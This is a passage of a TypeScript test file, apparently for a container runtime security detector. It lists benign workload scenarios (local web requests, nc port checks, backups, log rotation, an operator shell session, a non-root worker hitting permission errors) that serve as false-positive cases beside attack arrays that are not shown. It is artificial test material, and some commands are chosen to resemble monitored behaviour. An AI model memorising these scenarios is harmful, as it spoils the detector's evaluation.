      " && printf '#!/bin/sh\\nfor o in build/*.o; do gunzip -c $o | grep -q return || exit 1; done\\necho PASS\\n' > build/run-tests.sh && sh build/run-tests.sh >/dev/null" +
      " && cd / && rm -rf /src/app/build" },
  { name: "web app: httpd with CGI scripts in place before it starts, storing orders under /var/lib", technique: "-", pod: "benign", expect: null,
    cmd: `${APP_CGI} && ${APP_HTTPD} && for i in 1 2 3; do wget -q -O /dev/null "http://127.0.0.1:18091/cgi-bin/orders?item=$i"; done && wget -q -O /dev/null http://127.0.0.1:18091/index.html` },
  { name: "health checks: HTTP probes and TCP checks of a few local ports", technique: "-", pod: "benign", expect: null,
    cmd: `${APP_CGI} && ${APP_HTTPD} && for r in 1 2 3; do wget -q -T 2 -O /dev/null http://127.0.0.1:18091/cgi-bin/health; for p in 18090 18091 15432; do nc -z -w 1 127.0.0.1 $p; done; done; true` },
  { name: "syslog daemon receiving the app's messages", technique: "-", pod: "benign", expect: null,
    cmd: "mkdir -p /var/log && (pidof syslogd >/dev/null || syslogd -O /var/log/messages) && sleep 0.2 && for i in 1 2 3; do logger -t app \"order $i stored\"; done" },
  { name: "log rotation of several application logs", technique: "-", pod: "benign", expect: null,
    cmd: "mkdir -p /var/log/app && for f in access error; do seq 1 100 >> /var/log/app/$f.log; /opt/bin/logrotate /var/log/app/$f.log; done" },
  { name: "backup: tar czf of /etc and /var to a backup dir, verified, old archives pruned", technique: "-", pod: "benign", expect: null,
    cmd:
      `${TOOLS_ON_PATH} && mkdir -p /backup && tar czf /backup/node-$(date +%Y%m%d%H%M%S).tgz /etc /var 2>/dev/null; for b in /backup/*.tgz; do tar tzf $b >/dev/null; done` +
      " && find /backup -name '*.tgz' -mtime +7 -exec rm -f {} + && ls -l /backup >/dev/null" },
  { name: "operator session (kubectl exec without a terminal): ps, os-release, ls, df", technique: "-", pod: "benign", expect: null,
    cmd: "ps; cat /etc/os-release 2>/dev/null; ls -la /; df -h; uptime; free" },
  // a non-root worker meets permission denied in ordinary ways (its pid file, a root-owned config),
  // not on the protected files and tunables an attempt rule watches; it reads tunables freely
  { name: "non-root worker denied writes to root-owned paths, reading sysctls", technique: "-", pod: "benign", expect: null, user: "1000",
    cmd: "mkdir -p /tmp/w && echo 1 > /tmp/w/cache; echo $$ > /var/run/worker.pid 2>/dev/null; touch /etc/worker.conf 2>/dev/null; ls /root >/dev/null 2>&1; sysctl -n kernel.hostname vm.swappiness >/dev/null; cat /proc/sys/fs/file-max >/dev/null; true" },
  // servers take requests all day: the app's CGI again, a few scenarios after it was deployed
  { name: "web app: the same CGI scripts requested again later", technique: "-", pod: "benign", expect: null,
    cmd: `${APP_CGI} && ${APP_HTTPD} && wget -q -O /dev/null "http://127.0.0.1:18091/cgi-bin/orders?item=4" && wget -q -O /dev/null http://127.0.0.1:18091/cgi-bin/health` },
  { name: "cron job run by crond (waits up to 29 s for it)", technique: "-", pod: "benign", expect: null,
    cmd: `${CRON} && i=0; while [ ! -f /srv/cron/ran ] && [ $i -lt 29 ]; do sleep 1; i=$((i+1)); done; [ -f /srv/cron/ran ]` },
];

/** Every attack: the core table above, then the second wave's classes (one file each). */
export const ATTACKS: readonly Scenario[] = [...ATTACKS_CORE, ...ATTACKS_ATTEMPTS, ...ATTACKS_TAMPER, ...ATTACKS_NET, ...ATTACKS_FILES, ...ATTACKS_IO_URING];

/** Every benign workload. */
export const BENIGN: readonly Scenario[] = [...BENIGN_CORE, ...BENIGN_NET, ...BENIGN_TAMPER];
